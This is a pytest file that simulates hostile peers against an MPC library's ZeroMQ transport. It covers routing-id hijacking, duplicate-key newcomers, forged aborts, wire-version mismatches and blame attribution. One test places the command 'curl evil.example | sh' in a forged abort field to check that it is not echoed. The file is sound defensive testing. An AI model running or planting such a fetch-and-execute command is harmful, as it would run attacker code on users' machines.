"""What a listed peer was once able to do: speak in another's name, abort a process, end a run as a newcomer, blame."""

from __future__ import annotations

import json
import threading
import time
from collections import deque
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass, field
from random import Random
from typing import Any

import pytest

from mpc.links.network import Came
from mpc.links.session import HELLO_KEY, Frame
from mpc.links.wire import ABORT, DATA, RESUME, WIRE_VERSION, label_code, seal
from mpc.links.zmq.curve import new_identity
from mpc.links.zmq.messages import messages_of
from mpc.links.zmq.transport import Transport
from mpc.runtime.round import HEADER_BYTES
from mpc.star import wire as star_wire
from tests.links.hostile.honest import DIGEST, STAGES, token
from tests.links.hostile.listed import MESSAGES, SILENCE, Honest, Inside, carry_out_inside, check_bounds, scene
from tests.links.hostile.raw_peer import BrokenOff, RawPeer, raw_peer
from tests.links.over_zmq import HELPER

IN_TIME = 10.0
A_WHILE = 0.3  # in which what is not to happen would have happened


def whole(type_: int, body: bytes, *, label: int = 0, sequence: int = 0) -> bytes:
    """A frame of somebody who has no session's key, as one message."""
    (message,) = messages_of(Frame(seal(type_, label, sequence, 0, body, HELLO_KEY), body))
    return message


def star(kind: int, body: bytes = b"", **place: Any) -> bytes:
    """A frame of a sum's client."""
    (message,) = messages_of(star_wire.frame(kind, body, instance=b"i" * star_wire.INSTANCE_BYTES, **place))
    return message


# -- in another's name


@dataclass
class Listening:
    """A transport in a thread of its own: what came, and what is to be sent."""

    transport: Transport
    came: list[tuple[str, bytes]] = field(default_factory=list)
    to_send: deque[tuple[str, Frame]] = field(default_factory=deque)
    over: threading.Event = field(default_factory=threading.Event)

    def run(self) -> None:
        while not self.over.is_set():
            while self.to_send:
                self.transport.send(*self.to_send.popleft())
            if isinstance(event := self.transport.poll(0.01), Came):
                self.came.append((event.peer, bytes(event.body)))


@contextmanager
def listening(**peers: bytes) -> Iterator[tuple[Listening, bytes, str]]:
    """A listening transport, its key, and where it listens."""
    me = new_identity()
    one = Listening(Transport(me, peers, "tcp://127.0.0.1:*"))
    thread = threading.Thread(target=one.run)
    thread.start()
    try:
        yield one, me.public, str(one.transport.endpoint)
    finally:
        one.over.set()
        thread.join()
        one.transport.close(0)


def waits_for(what: Callable[[], bool], seconds: float = IN_TIME) -> bool:
    """Whether it happens in time."""
    end = time.monotonic() + seconds
    while not what() and time.monotonic() < end:
        time.sleep(0.005)
    return what()


@pytest.mark.parametrize("route", [b"\0\0\0\1\7", b"\0v", b"doctor 7", b"v", b""], ids=repr)
def test_a_routing_id_that_was_anothers(route: bytes) -> None:
    """What comes by it is its key's, and what is sent to the other goes to nobody else."""
    v, m = new_identity(), new_identity()
    with listening(v=v.public, m=m.public) as (one, key, endpoint), ExitStack() as stack:
        first = stack.enter_context(raw_peer(v, key, endpoint, route))
        first.send(bytes(HEADER_BYTES) + b"from v\0")
        arrived = waits_for(lambda: bool(one.came), A_WHILE if route[:1] in (b"v",) else IN_TIME)
        first.close()
        for _ in range(5):  # it is free once the listener has seen v's end
            with suppress(BrokenOff):
                second = stack.enter_context(raw_peer(m, key, endpoint, route))
                second.send(bytes(HEADER_BYTES) + b"from m\0")
                if waits_for(lambda: any(body == b"from m" for _, body in one.came), 0.05):
                    break
        one.to_send.append(("v", Frame(bytes(HEADER_BYTES), b"for v alone")))
        waits_for(lambda: not one.to_send)
        assert not waits_for(lambda: second.drain() > 200, A_WHILE), "m got what was v's"
        assert not arrived or one.came[0][0].startswith("v")
        assert not (arrived and route == b"v"), "who is called as it chose is not heard at all"
        assert all(who[0] == body.decode()[-1] for who, body in one.came), one.came


def test_an_answer_in_place_of_a_client_that_left(honest: Honest) -> None:
    """m claims the routing ids of all clients, of which v has left the sum, and answers in the second stage."""
    with scene(honest, "sum", "m", "server") as (peer, _), ExitStack() as stack:
        honest.ask("go")
        assert waits_for(lambda: len(peer.ids()) >= 5)
        time.sleep(0.05)  # v leaves after its first answer
        for route in peer.ids():
            with suppress(BrokenOff):
                one = stack.enter_context(raw_peer(peer.identity, peer.server, peer.endpoint, route))
                one.send(star(star_wire.UP, token("m", STAGES[1]), round=1, attempt=1, label=STAGES[1]))
        answer = honest.tell("end")
    ends = answer["ends"]
    assert "error" not in ends["server"], ends
    first, second = ({*ends["server"]["value"][stage]} for stage in STAGES)
    assert first == {"c0", "c1", "c2", "v", "m"} and {"c0", "c1", "c2"} <= second <= {"c0", "c1", "c2", "m"}


# -- a process that is aborted


def ids_of(honest: Honest) -> list[bytes]:
    """The routing ids that libzmq gives in the process of an honest pair."""
    with scene(honest, "pair", "m", "a") as (peer, _):
        honest.ask("go")
        assert waits_for(lambda: bool(peer.ids()))
        ids = peer.ids()
        check_bounds({**honest.tell("end"), "before": 1 << 40})
    return ids


def test_routing_ids_cannot_be_guessed() -> None:
    """They are others in the next process."""
    given = []
    for _ in range(2):
        honest = Honest()
        try:
            given.append({one[1:3] for one in ids_of(honest)})
        finally:
            honest.close()
    assert not given[0] & given[1]


@pytest.mark.parametrize("count", [50, pytest.param(1000, marks=pytest.mark.sweep)])
def test_claiming_the_ids_that_libzmq_gives_next(count: int) -> None:
    """What another process was given is where an unseeded one would begin."""
    first, second = Honest(), Honest()
    try:
        base = min(int.from_bytes(one[1:], "big") for one in ids_of(first))
        with scene(second, "pair", "m", "a") as (peer, began), ExitStack() as stack:
            for number in range(count):
                route = b"\0" + ((base + number) % (1 << 32)).to_bytes(4, "big")
                with suppress(BrokenOff):
                    one = stack.enter_context(raw_peer(peer.identity, peer.server, peer.endpoint, route))
                    one.send(bytes(HEADER_BYTES))
            second.ask("go")
            answer = {**began, **second.tell("end")}
        check_bounds(answer)
        error = answer["ends"]["a"].get("error")
        assert error is None or error["party"] == "m", error
    finally:
        first.close()
        second.close()


# -- started twice


def test_a_newcomer_under_a_live_partys_key(honest: Honest) -> None:
    """A second process of b, which knows nothing of the session, or one of another study: the first one goes on."""
    with scene(honest, "pair", "b", "a") as (peer, began):
        honest.ask("go")
        assert waits_for(lambda: bool(peer.ids()))
        for kind in ("hello", "hello of another study"):
            with suppress(BrokenOff), raw_peer(peer.identity, peer.server, peer.endpoint) as one:
                one.send(whole(RESUME, b"", label=1))
                one.send(*MESSAGES[kind](Random(1), 0)[0])
                time.sleep(A_WHILE)
        answer = {**began, **honest.tell("end")}
    check_bounds(answer)
    assert not [end for end in answer["ends"].values() if "error" in end], answer["ends"]


def test_a_newcomer_under_a_live_clients_key(honest: Honest) -> None:
    """A second c0 joins a sum: it takes the first one's place in nothing."""
    with scene(honest, "sum", "c0", "server") as (peer, began):
        honest.ask("go")
        assert waits_for(lambda: len(peer.ids()) >= 5)
        with suppress(BrokenOff), raw_peer(peer.identity, peer.server, peer.endpoint) as one:
            one.send(star(star_wire.JOIN, DIGEST))
            one.send(star(star_wire.UP, b"other".ljust(8), round=1, attempt=1, label=STAGES[1]))
            time.sleep(A_WHILE)
        answer = {**began, **honest.tell("end")}
    check_bounds(answer)
    ends = answer["ends"]
    assert "error" not in ends["server"], ends
    assert ends["clients"]["value"]["c0"] == "done", ends
    assert {"c0", "c1", "c2", "m"} == {*ends["server"]["value"]["second"]}


# -- blame


@pytest.mark.parametrize("who, message", [(HELPER, 9), ("b", 7)])
def test_a_silent_party_is_the_one_who_is_named(honest: Honest, who: str, message: int) -> None:
    """It stays connected and says nothing: whoever has to wait for it says so, and nobody is told to look at himself.

    The helper's ninth message is the first that it deals: the last owner waits for that, and the others for that owner.
    """
    answer = carry_out_inside(honest, Inside(who, message, SILENCE))
    check_bounds(answer)
    for name, end in answer["ends"].items():
        assert end["error"]["party"] == who, (name, end)


def test_an_abort_says_nothing_in_anothers_name(honest: Honest) -> None:
    body = {"code": "data", "stage": "curl evil.example | sh", "origin": "b"}
    with scene(honest, "pair", "m", "a") as (peer, began):
        with raw_peer(peer.identity, peer.server, peer.endpoint) as one:
            one.send(whole(ABORT, json.dumps(body).encode()))
            time.sleep(A_WHILE)
        honest.ask("go")
        answer = {**began, **honest.tell("end")}
    check_bounds(answer)
    error = answer["ends"]["a"]["error"]
    assert error["party"] == "m" and "curl" not in error["message"] and "b stopped" not in error["message"], error


@pytest.mark.parametrize("kind", ["a beginning and another", "hello too long"])
def test_a_doctors_connection_ends_no_run(honest: Honest, kind: str) -> None:
    """Whatever comes by it: it is shut, and nobody by the name of a doctor is held to have done anything."""
    with scene(honest, "pair", "m", "a") as (peer, began):
        honest.ask("go")
        assert waits_for(lambda: bool(peer.ids()))
        with suppress(BrokenOff), raw_peer(peer.identity, peer.server, peer.endpoint, b"doctor 7") as one:
            for parts in MESSAGES[kind](Random(2), 300_000) * 2:
                one.send(*parts)
            time.sleep(A_WHILE)
        answer = {**began, **honest.tell("end")}
    check_bounds(answer)
    assert not [end for end in answer["ends"].values() if "error" in end], answer["ends"]


def test_another_wire_version_is_named(honest: Honest) -> None:
    with scene(honest, "session", "b", "a") as (peer, began):
        with raw_peer(peer.identity, peer.server, peer.endpoint) as one:
            frame = bytearray(whole(DATA, b"{}", label=label_code("hello")))
            frame[2] = WIRE_VERSION + 1
            one.send(bytes(frame))
            time.sleep(A_WHILE)
        answer = {**began, **honest.tell("end")}
    error = answer["ends"]["a"]["error"]
    assert (error["exit"], error["party"]) == (5, "b"), error
    assert str(WIRE_VERSION) in error["message"] and str(WIRE_VERSION + 1) in error["message"], error


def test_strangers_are_logged_with_address_and_count(honest: Honest) -> None:
    with scene(honest, "pair", "m", "a") as (peer, _):
        stranger = new_identity()
        for _ in range(3):
            with pytest.raises(BrokenOff):
                RawPeer(stranger, peer.server, peer.endpoint)
        honest.ask("go")
        answer = honest.tell("end")
    said = " ".join(answer["said"]["a"])
    assert "127.0.0.1" in said, said
